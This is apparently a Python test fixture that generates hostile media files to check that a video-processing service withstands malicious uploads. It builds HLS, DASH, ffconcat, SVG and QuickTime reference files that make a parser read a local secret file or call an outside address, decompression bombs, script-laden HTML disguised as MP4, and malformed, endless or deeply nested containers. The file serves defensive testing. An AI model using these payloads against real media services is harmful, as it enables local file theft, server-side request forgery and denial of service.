"""Files that mean harm, made on the spot: name -> bytes."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

BESIDE = "private.ts"
"""A real video of somebody else's."""


def files(secret: Path, address: str, mp4: bytes, mkv: bytes, endless_mp4: bytes) -> Iterator[tuple[str, bytes]]:
    """`secret` is a local file that they try to make us read, `address` one of ours that they try to make us call."""
    noise = random.Random(7).randbytes
    yield "empty.mp4", b""
    yield "one-byte.mp4", b"\x00"
    yield "noise.mp4", noise(50_000)
    yield "text.mp4", b"This is no video, whatever its name says.\n" * 100
    yield "page.mp4", b"<!doctype html><html><script>alert(1)</script></html>"
    yield "program.mp4", b"\x7fELF\x02\x01\x01" + noise(1000)

    # what names other files
    hls = f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{secret}\n#EXTINF:10,\n{address}/a.ts\n#EXT-X-ENDLIST\n"
    yield "hls.m3u8", hls.encode()
    yield "hls.mp4", hls.encode()
    yield "hls-subfile.mp4", f"#EXTM3U\n#EXTINF:1,\nconcat:{address}/x|subfile,,start,0,end,99,,:{secret}\n".encode()
    yield "hls-behind-ts.ts", b"G" + bytes(187) + hls.encode()
    yield "hls-behind-gif.gif", b"GIF89a" + hls.encode()
    yield "hls-behind-id3.mp3", b"ID3\x04\x00\x00\x00\x00\x00\x00" + hls.encode()
    yield (
        "dash.mpd",
        f"<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011' type='static'><Period><AdaptationSet>"
        f"<Representation id='1' bandwidth='1'><BaseURL>file://{secret}</BaseURL></Representation></AdaptationSet>"
        f"</Period></MPD>".encode(),
    )
    yield "list.ffconcat", f"ffconcat version 1.0\nfile '{secret}'\nfile '{address}/b.mp4'\n".encode()
    yield "concat.mp4", f"ffconcat version 1.0\nfile '{secret}'\n".encode()
    yield (
        "drawing.svg",
        f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
        f"<image xlink:href='file://{secret}' width='9' height='9'/><image xlink:href='{address}/x'/></svg>".encode(),
    )
    host, _, port = address.rpartition("/")[2].partition(":")
    yield (
        "call.sdp",
        f"v=0\r\no=- 0 0 IN IP4 {host}\r\ns=x\r\nc=IN IP4 {host}\r\nm=video {port} RTP/AVP 96\r\n".encode(),
    )
    # BESIDE lies in the same folder, and could be read
    yield "hls-beside.m3u8", f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{BESIDE}\n#EXT-X-ENDLIST\n".encode()
    yield "list-beside.mp4", f"ffconcat version 1.0\nfile '{BESIDE}'\n".encode()
    yield "pictures.txt", f"{secret}\n".encode() * 100
    yield "movie.qtl", f'<?xml version="1.0"?><?quicktime type="x"?><embed src="{address}/x.mov"/>'.encode()
    link = f"file://{secret}".encode() + b"\x00"
    rdrf = atom(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(link)) + link)
    yield "reference.mov", atom(b"ftyp", b"qt  \0\0\0\0qt  ") + atom(b"moov", atom(b"rmra", atom(b"rmda", rdrf)))
    yield "realmedia.ram", f"rtsp://{host}:{port}/x\nfile://{secret}\n".encode()

    # bombs
    yield "bomb.zip", zipped()
    yield "bomb.gz", gzip.compress(bytes(5 << 20))
    yield "bomb.png", png(60_000, 60_000, zlib.compress(bytes(20 << 20)))
    yield "small-bomb.png", png(16, 16, zlib.compress(bytes(20 << 20)))[:-40]
    yield "wide.png", png(2**31 - 1, 1, zlib.compress(b"\x00"))
    yield (
        "huge.gif",
        b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\x00\x02\x02D\x01\x00;",
    )
    yield "huge.jpg", jpeg(65_500, 65_500)
    yield "huge.bmp", b"BM" + struct.pack("<IIIIiiHHIIIIII", 54, 0, 54, 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0)
    yield "huge.y4m", b"YUV4MPEG2 W65535 H65535 F25:1 C420\nFRAME\n" + bytes(1000)
    yield "huge.webp", b"RIFF\x1e\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x02\0\0\0\xff\xff\xff\xff\xff\xff" + bytes(8)

    # what breaks off
    yield "truncated.mp4", mp4[: len(mp4) * 2 // 3]
    yield "head-only.mp4", mp4[:40]
    yield "truncated.mkv", mkv[:200]
    yield "noise-inside.mp4", with_noise(mp4, noise)
    yield "zip-behind-ftyp.mp4", atom(b"ftyp", b"isom\0\0\2\0isom") + zipped()
    yield "page-behind-ftyp.mp4", atom(b"ftyp", b"isom\0\0\2\0isom") + b"<html><script>alert(1)</script>" * 100

    # numbers that cannot be
    yield "endless.mp4", endless_mp4
    yield "no-rate.y4m", b"YUV4MPEG2 W16 H16 F0:0 C420\n" + b"FRAME\n" * 10
    yield "fast.y4m", b"YUV4MPEG2 W16 H16 F1000000:1 C420\n" + (b"FRAME\n" + bytes(384)) * 10
    yield "no-size.y4m", b"YUV4MPEG2 W0 H0 F25:1 C420\nFRAME\n"
    yield "negative.y4m", b"YUV4MPEG2 W-16 H-16 F25:1 C420\nFRAME\n" + bytes(384)
    yield "no-timescale.mp4", patched(mp4, b"mdhd", 12, b"\0\0\0\0")[: len(mp4) // 2]
    yield "endless.wav", wav(1, 8000, data_size=0xFFFFFFFF, riff_size=0xFFFFFFFF, body=bytes(100), rf64_s=10**9)
    yield "no-channels.wav", wav(0, 16_000, data_size=100, riff_size=136, body=bytes(100))
    yield "no-hertz.wav", wav(1, 0, data_size=100, riff_size=136, body=bytes(100))
    yield "giant-fmt.wav", b"RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\x7f" + bytes(100)
    yield "giant-list.wav", b"RIFF\xff\xff\xff\xffWAVELIST\xfe\xff\xff\xffINFO" + bytes(100)
    yield "giant-tag.mp3", b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + bytes(1000)

    # structure without end
    yield "deep.mp4", atom(b"ftyp", b"isom\0\0\2\0isom") + nested(b"moov", 20_000)
    yield "deep-trak.mp4", atom(b"ftyp", b"isom\0\0\2\0isom") + atom(b"moov", nested(b"trak", 5_000))
    yield "loop.mp4", atom(b"ftyp", b"isom\0\0\2\0isom") + b"\0\0\0\1moov" + struct.pack(">Q", 8) * 500
    yield "beyond.mp4", atom(b"ftyp", b"isom\0\0\2\0isom") + b"\xff\xff\xff\xffmoov\xff\xff\xff\xfftrak" + bytes(100)
    yield "streams.mp4", many_tracks(mp4, 2_000)
    yield "streams.mkv", matroska(ebml(0x1654AE6B, matroska_track() * 10_000))
    yield "deep.mkv", matroska(b"\x16\x54\xae\x6b\x01\xff\xff\xff\xff\xff\xff\xff" * 3_000)
    yield "pages.ogg", b"OggS\x00\x02" + bytes(20) + b"\xff" * 256 + noise(2_000)
    yield "null.ts", (b"G\x1f\xff\x10" + b"\xff" * 184) * 500
    yield "noise.flv", b"FLV\x01\x05\x00\x00\x00\x09\x00\x00\x00\x00" + noise(5_000)
    yield "noise.flac", b"fLaC\x00\x00\x00\x22" + noise(5_000)
    yield "noise.avi", b"RIFF\xff\xff\xff\x7fAVI LIST\xff\xff\xff\x7fhdrlavih" + noise(5_000)
    yield "noise.asf", b"\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\x00\xaa\x00\x62\xce\x6c" + noise(5_000)


def atom(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + name + body


def nested(name: bytes, depth: int) -> bytes:
    return b"".join(struct.pack(">I", 8 * left) + name for left in range(depth, 0, -1))


def patched(mp4: bytes, name: bytes, offset: int, value: bytes) -> bytes:
    start = mp4.index(name) + 4 + offset
    return mp4[:start] + value + mp4[start + len(value) :]


def with_noise(mp4: bytes, noise: Callable[[int], bytes]) -> bytes:
    start = mp4.index(b"mdat") + 4
    stop = mp4.index(b"moov", start) - 4 if b"moov" in mp4[start:] else len(mp4)
    return mp4[:start] + noise(stop - start) + mp4[stop:]


def many_tracks(mp4: bytes, n: int) -> bytes:
    moov = mp4.index(b"moov") - 4
    trak = mp4.index(b"trak") - 4
    length = struct.unpack_from(">I", mp4, trak)[0]
    mvhd = mp4[moov + 8 : trak]
    return mp4[:moov] + atom(b"moov", mvhd + mp4[trak : trak + length] * n)


def zipped() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("video.mp4", bytes(5 << 20))
    return packed.getvalue()


def png(width_px: int, height_px: int, data: bytes) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width_px, height_px, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def jpeg(width_px: int, height_px: int) -> bytes:
    start = struct.pack(">HBHHB", 17, 8, height_px, width_px, 3) + b"\x01\x11\x00\x02\x11\x00\x03\x11\x00"
    return b"\xff\xd8\xff\xc0" + start + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x00\x03\x00\x00\x3f\x00" + bytes(50)


def wav(
    channels: int, rate_hz: int, *, data_size: int, riff_size: int, body: bytes, rf64_s: int | None = None
) -> bytes:
    about = struct.pack("<HHIIHH", 1, channels, rate_hz, rate_hz * channels * 2, channels * 2, 16)
    sizes = b""
    if rf64_s is not None:
        sizes = b"ds64" + struct.pack("<IQQQI", 28, rf64_s * rate_hz * 2, rf64_s * rate_hz * 2, rf64_s * rate_hz, 0)
    start = (b"RIFF" if rf64_s is None else b"RF64") + struct.pack("<I", riff_size) + b"WAVE" + sizes
    return start + b"fmt " + struct.pack("<I", 16) + about + b"data" + struct.pack("<I", data_size) + body


def ebml(number: int, body: bytes) -> bytes:
    name = number.to_bytes((number.bit_length() + 7) // 8, "big")
    return name + (0x0100000000000000 | len(body)).to_bytes(8, "big") + body


def matroska(segment: bytes) -> bytes:
    head = ebml(0x1A45DFA3, ebml(0x4282, b"matroska") + ebml(0x4287, b"\x04") + ebml(0x4285, b"\x02"))
    return head + ebml(0x18538067, segment)


def matroska_track() -> bytes:
    video = ebml(0xE0, ebml(0xB0, b"\x10") + ebml(0xBA, b"\x10"))
    return ebml(0xAE, ebml(0xD7, b"\x01") + ebml(0x83, b"\x01") + ebml(0x86, b"V_VP8") + video)
